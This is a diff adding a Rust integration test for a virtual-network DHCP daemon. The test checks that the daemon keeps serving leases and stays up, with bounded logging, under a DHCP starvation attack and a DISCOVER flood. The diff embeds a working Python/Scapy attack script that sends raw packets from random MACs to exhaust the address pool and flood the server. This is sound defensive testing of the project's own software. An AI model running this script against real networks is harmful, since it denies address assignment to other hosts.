@@ -77,3 +77,100 @@ fn hostile_dhcp_packets_do_not_stop_the_server() {
     assert!(!log.contains("panicked"), "a hostile packet made the daemon panic:\n{log}");
     assert!(signal(host.daemon.pid(), "0"), "the daemon died during the attack:\n{log}");
 }
+
+/// Scapy (Debian's python3-scapy) builds the packets, an AF_PACKET socket
+/// sends them as fast as Python can, for a bounded time. `exhaust`: a
+/// REQUEST (no DISCOVER) for every address of the dynamic range, each from
+/// a new random MAC, steadily (under a port's DHCP rate, so each counts).
+/// `flood`: DISCOVERs from random MACs (Ethernet source and chaddr) and
+/// from one MAC over and over, until the deadline.
+const ATTACK: &str = r#"
+import os, random, socket, sys, time
+from scapy.all import Ether, IP, UDP, BOOTP, DHCP, raw
+mode, iface, first, last, seconds = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5])
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind((iface, 0))
+def mac():
+    return bytes([0x02, random.randrange(256), random.randrange(256), random.randrange(256), random.randrange(256), random.randrange(256)])
+def pkt(m, kind, ip=None):
+    opts = [("message-type", kind)] + ([("requested_addr", ip)] if ip else []) + ["end"]
+    e = Ether(src=m, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67)
+    return raw(e / BOOTP(chaddr=m + b"\0" * 10, xid=random.randrange(1 << 32), flags=0x8000) / DHCP(options=opts))
+sent = 0
+def send(p):
+    # A full queue (ENOBUFS) is the flood working; go on.
+    global sent
+    try:
+        s.send(p); sent += 1
+    except OSError:
+        pass
+deadline = time.time() + seconds
+if mode == "exhaust":
+    a = [int(x) for x in first.split(".")]
+    b = [int(x) for x in last.split(".")]
+    for n in range(a[3], b[3] + 1):
+        if time.time() > deadline:
+            break
+        send(pkt(mac(), "request", "%d.%d.%d.%d" % (a[0], a[1], a[2], n)))
+        time.sleep(0.06)
+else:
+    templates = [pkt(mac(), "discover") for _ in range(64)]
+    same = pkt(mac(), "discover")
+    while time.time() < deadline:
+        for t in templates:
+            m = mac()
+            p = bytearray(t); p[6:12] = m; p[42 + 28:42 + 34] = m
+            send(bytes(p)); send(same)
+print(sent)
+"#;
+
+#[test]
+fn a_flood_and_a_pool_exhaustion_attack_leave_ports_served() {
+    let tools = [NAT_TOOLS, &["python3"]].concat();
+    if !privileged("a_flood_and_a_pool_exhaustion_attack_leave_ports_served", &tools) {
+        return;
+    }
+    let host = Host::start();
+    let net = host.cli_json(&["net", "create", NET, "--mode", "nat", "--subnet", SUBNET]);
+    let (first, last) = (field(&net["dhcp_range"], "first").to_string(), field(&net["dhcp_range"], "last").to_string());
+    let victim = host.attach_vm(NET, "victim", &[]);
+    udhcpc(&victim.ns, "eth0", None).unwrap_or_else(|e| panic!("no lease before the attack: {e}"));
+    let attack = |who: &str, mode: &str| {
+        let vm = host.attach_vm(NET, who, &[]);
+        let mut cmd = vm.ns.command("/usr/bin/python3", &["-c", ATTACK, mode, "eth0", &first, &last, "14"]);
+        cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
+        let child = cmd.spawn().expect("the attack starts");
+        (vm, child)
+    };
+    let (_exhauster, exhaust) = attack("exhauster", "exhaust");
+    let (_flooder, flood) = attack("flooder", "flood");
+    std::thread::sleep(Duration::from_secs(2));
+
+    // During the flood: the victim renews its fixed lease every time, and
+    // provisioning goes on.
+    for i in 0..4 {
+        let lease = udhcpc(&victim.ns, "eth0", None)
+            .unwrap_or_else(|e| panic!("renewal {i} during the flood failed: {e}\n{}", host.daemon.log()));
+        assert_eq!(lease.ip, victim.ip(), "renewal {i} gave another address");
+    }
+    let newcomer = host.attach_vm(NET, "newcomer", &[]);
+    let lease = udhcpc(&newcomer.ns, "eth0", None).unwrap_or_else(|e| panic!("a new port got no lease: {e}"));
+    assert_eq!(lease.ip, newcomer.ip());
+
+    let sent_by = |child: std::process::Child, what: &str| -> u64 {
+        let out = child.wait_with_output().expect("the attack ends");
+        stdout(&out).trim().parse().unwrap_or_else(|_| panic!("{what} printed {:?}{}", stdout(&out), stderr(&out)))
+    };
+    let flooded = sent_by(flood, "the flood");
+    assert!(flooded > 5_000, "the flood sent only {flooded} packets");
+    let sent = flooded + sent_by(exhaust, "the exhaustion");
+    // The pool is the attacker's now; the ports' half is untouched.
+    let leases = host.cli_json(&["lease", "list", NET]);
+    let dynamic = leases.as_array().into_iter().flatten().filter(|l| l["kind"] == "dynamic").count();
+    assert!(dynamic > 100, "the exhaustion took only {dynamic} addresses");
+    // Dropped packets are summarised, not logged one by one.
+    std::thread::sleep(Duration::from_millis(200));
+    let log = host.daemon.log();
+    assert!(log.lines().count() < 300, "{} log lines for {sent} hostile packets", log.lines().count());
+    assert!(signal(host.daemon.pid(), "0"), "the daemon died during the flood:\n{log}");
+}
